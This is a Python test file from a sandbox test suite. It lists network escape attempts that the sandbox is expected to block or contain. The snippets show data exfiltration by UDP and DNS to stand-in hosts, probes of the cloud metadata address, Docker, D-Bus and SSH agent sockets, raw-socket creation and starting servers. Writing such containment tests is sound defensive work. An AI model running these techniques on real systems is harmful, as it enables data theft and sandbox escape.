"""Attacks that talk to somebody."""

from tests.sandbox.attacks.attack import Attack

NETWORK = [
    Attack(
        "connect to a server on this machine",
        """
def ask(address):
    with socket.create_connection(address, 0.5) as s:
        return s.recv(1000)
for host in ('127.0.0.1', 'localhost', '0.0.0.0', '127.1.2.3'):
    attempt(lambda: ask((host, PORT)))
""",
        control=True,
    ),
    Attack(
        "connect over IPv6",
        """
def ask(host):
    with socket.socket(socket.AF_INET6, socket.SOCK_STREAM) as s:
        s.settimeout(0.5)
        s.connect((host, PORT))
        return s.recv(1000)
for host in ('::1', '::ffff:127.0.0.1', '::'):
    attempt(lambda: ask(host))
""",
        control=True,
    ),
    Attack(
        "connect to this machine's outer addresses and to the world",
        """
for host in (*ADDRESSES, '192.0.2.1', '1.1.1.1', '169.254.169.254', '10.0.0.1', '172.17.0.1'):
    for port in (PORT, 80, 53):
        must_fail(lambda: socket.create_connection((host, port), 0.2))
""",
    ),
    Attack(
        "send datagrams out",
        """
def send(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        attempt(lambda: s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1))
        return s.sendto(b'stolen data', (host, UDP_PORT))
for host in ('127.0.0.1', *ADDRESSES, '255.255.255.255', '224.0.0.251'):
    attempt(lambda: send(host))
""",
        control=True,
    ),
    Attack(
        "smuggle data out through DNS",
        """
must_fail(lambda: socket.getaddrinfo('stolen-data.example.com', 80))
must_fail(lambda: socket.gethostbyname('example.com'))
header = bytes.fromhex('123401000001000000000000')
question = header + b'\\x06stolen\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01'
def ask(server):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(0.2)
        s.sendto(question, (server, 53))
        return s.recv(500)
for server in (*NAMESERVERS, '8.8.8.8', '127.0.0.53'):
    must_fail(lambda: ask(server))
""",
    ),
    Attack(
        "connect to an abstract Unix socket",
        """
def ask():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(0.5)
        s.connect('\\0' + ABSTRACT)
        return s.recv(1000)
attempt(ask)
""",
        control=True,
    ),
    Attack(
        "connect to a Unix socket by its path",
        """
def ask(path):
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.settimeout(0.5)
        s.connect(path)
        return s.recv(1000)
attempt(lambda: ask(UNIX_PATH))
os.symlink(UNIX_PATH, 'link.sock')
attempt(lambda: ask('link.sock'))
""",
        control=True,
    ),
    Attack(
        "find the system's own sockets",
        """
for path in ('/var/run/docker.sock', '/run/docker.sock', '/run/dbus/system_bus_socket', '/run/systemd/private',
             '/run/user/1000/bus', '/tmp/.X11-unix/X0', '/run/user/1000/wayland-0', '/run/snapd.socket', SSH_AGENT):
    def ask():
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.connect(path)
            return path
    must_fail(ask)
for name in ('SSH_AUTH_SOCK', 'DBUS_SESSION_BUS_ADDRESS', 'XDG_RUNTIME_DIR', 'DISPLAY', 'WAYLAND_DISPLAY'):
    if name in os.environ:
        print('ESCAPED:', name)
""",
    ),
    Attack(
        "open raw, packet, netlink, VM and crypto sockets",
        """
for family, kind, protocol in ((2, 3, 1), (17, 3, 0x300), (16, 3, 0), (16, 2, 9), (40, 1, 0), (38, 5, 0), (31, 3, 1),
                               (30, 1, 0), (29, 3, 1), (44, 3, 0), (15, 3, 2), (10, 3, 58)):
    must_fail(lambda: socket.socket(family, kind, protocol))
""",
    ),
    Attack(
        "bring up an own network device",
        """
import fcntl, struct
with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as s:
    must_fail(lambda: fcntl.ioctl(s, 0x8914, struct.pack('16sH14s', b'lo', 0x1043, b'')))
    must_fail(lambda: fcntl.ioctl(s, 0x8916, struct.pack('16sH2s4s8s', b'lo', 2, b'', b'\\n\\0\\0\\1', b'')))
    must_fail(lambda: fcntl.ioctl(s, 0x8924, struct.pack('16sH14s', b'lo', 1, b'\\2\\0\\0\\0\\0\\1')))
must_fail(lambda: os.open('/dev/net/tun', os.O_RDWR))
""",
    ),
    Attack(
        "open a socket of the internet in every way there is",
        """
for family in (socket.AF_INET, socket.AF_INET6):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET, socket.SOCK_RDM):
        for protocol in (0, 6, 17, 1, 132, 136, 262):
            must_fail(lambda: socket.socket(family, kind, protocol))
            must_fail(lambda: call(NR['socket'], family, kind | 0o2000000, protocol))
    must_fail(lambda: socket.socketpair(family))
must_fail(lambda: call(NR['socket'], 2 | 1 << 32, 1, 0))
""",
    ),
    Attack(
        "be a server",
        """
import asyncio, http.server
must_fail(lambda: socket.create_server(('127.0.0.1', 0)))
must_fail(lambda: socket.create_server(('::1', 0), family=socket.AF_INET6))
must_fail(lambda: http.server.HTTPServer(('', 8000), http.server.SimpleHTTPRequestHandler))
made = asyncio.run(asyncio.start_server(print, '0.0.0.0', 8000))
print('ESCAPED' if made.sockets else 'held')
""",
    ),
    Attack(
        "fetch with the libraries that programs use",
        """
import ftplib, http.client, smtplib, urllib.request
must_fail(lambda: urllib.request.urlopen(f'http://127.0.0.1:{PORT}/', timeout=0.5))
must_fail(lambda: urllib.request.urlopen('https://example.com/', timeout=0.5))
must_fail(lambda: http.client.HTTPConnection('localhost', PORT, timeout=0.5).request('GET', '/'))
must_fail(lambda: ftplib.FTP('127.0.0.1', timeout=0.5))
must_fail(lambda: smtplib.SMTP('127.0.0.1', PORT, timeout=0.5))
os.environ['http_proxy'] = f'http://127.0.0.1:{PORT}'
must_fail(lambda: urllib.request.urlopen('http://example.com/', timeout=0.5))
""",
    ),
    Attack(
        "be handed an open file over a socket",
        """
import array
for path in ('\\0' + ABSTRACT, UNIX_PATH, '\\0dbus', '\\0/tmp/.X11-unix/X0'):
    def ask():
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(0.3)
            s.connect(path)
            return s.recvmsg(1000, socket.CMSG_LEN(64 * array.array('i').itemsize))
    must_fail(ask)
left, right = socket.socketpair()
socket.send_fds(left, [b'x'], [1])
print('own files pass:', len(socket.recv_fds(right, 10, 4)[1]))
""",
    ),
]
